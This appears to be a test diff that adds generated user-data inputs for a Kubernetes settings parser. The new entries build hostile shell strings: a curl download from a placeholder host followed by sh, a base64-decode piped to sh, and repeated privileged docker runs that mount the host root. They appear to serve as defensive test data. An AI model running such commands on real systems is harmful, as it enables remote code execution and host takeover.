@@ -138,6 +138,9 @@ USER_DATA: dict[str, tuple[Callable[[int], str], int]] = {
         80,
     ),
     "settings": (lambda n: "[settings.kubernetes]\n" + "".join(f"a{i}=1\n" for i in range(n)), 400),
+    "fetched and run": (lambda n: "curl -o a https://x/join; sh b\n" * n + "kubelet", 250),
+    "pieces": (lambda n: "kubelet\n" + "A=a=" * n + "\necho $A$A | base64 -d | sh", 3000),
+    "containers": (lambda n: "kubelet\n" + "docker run --privileged -v /a:/" * n, 250),
     "parts of a key": (lambda n: "[settings.kubernetes]\na" + ".a" * n + "=1", 1900),
 }
 
